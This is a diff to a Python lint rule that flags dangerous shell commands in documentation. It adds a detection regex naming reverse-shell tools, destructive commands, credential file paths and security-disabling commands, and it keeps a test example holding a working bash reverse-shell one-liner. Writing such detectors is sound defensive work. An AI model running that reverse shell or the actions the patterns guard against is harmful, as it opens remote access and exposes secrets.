@@ -4,6 +4,9 @@
 import re
 from collections.abc import Iterator
 
+import re2
+
+from bot.workflow.standards import redact
 from bot.workflow.standards.doc import Doc
 from bot.workflow.standards.finding import Hit, Severity
 from bot.workflow.standards.outline import Place
@@ -35,17 +38,26 @@ WARNED = re.compile(
 
 def check(doc: Doc, _view: View) -> Iterator[Hit]:
     """Report them in code and prose; where the line warns of the command it is a hint."""
-    for message, pattern in ALL.items():
-        for match in pattern.finditer(doc.text):
-            line = doc.line_at(match.start())
-            mild = WARNED.search(doc.line_text(line)) or doc.place_at(match.start()) in (
-                Place.QUOTE,
-                Place.TABLE,
-            )
-            yield Hit(
-                message=f"this {message}", line=line, severity=Severity.HINT if mild else None
-            )
+    for start, end in redact.lines_with(SIGN, doc.text):
+        for message, pattern in ALL.items():
+            for match in pattern.finditer(doc.text, start, end):
+                line = doc.line_at(match.start())
+                mild = WARNED.search(doc.line_text(line)) or doc.place_at(match.start()) in (
+                    Place.QUOTE,
+                    Place.TABLE,
+                )
+                yield Hit(
+                    message=f"this {message}", line=line, severity=Severity.HINT if mild else None
+                )
 
+
+SIGNS = (
+    r"/dev/|\bnc\b|ncat|netcat|bash +-i|socket\.socket|dup2|\brm +-|rmtree|mkfs|:\(\)|crontab|>>|>\s*/etc/"
+    r"|\.ssh|\.aws|\.netrc|\$\(env|\$\(printenv|\$\(cat|`env`|printenv|\benv *\||/etc/passwd|/etc/shadow|@\.env"
+    r"|chmod|history|HISTFILE|shred|setenforce|ufw|iptables|spctl|csrutil|MpPreference|systemctl|os\.environ"
+    r"|\.kube|\.docker|\.gnupg|\.config"
+)
+SIGN = re2.compile(SIGNS)
 
 RULE = Rule(
     severity=Severity.ERROR,
@@ -56,8 +68,7 @@ RULE = Rule(
     fix="Name the exact directory of the example, or take the command out.",
     document=check,
     reads=Reads.TEXT,
-    trigger=r"/dev/|\bnc|bash +-i|socket|dup2|\brm\b|rmtree|mkfs|:\(\)|crontab|>>|/etc/|curl|wget|env|chmod|history"
-    r"|HISTFILE|shred|setenforce|ufw|iptables|spctl|csrutil|MpPreference|systemctl|requests\.post",
+    trigger=SIGNS,
     is_security=True,
     fails=(
         Example(body="```bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```", at="bash -i"),
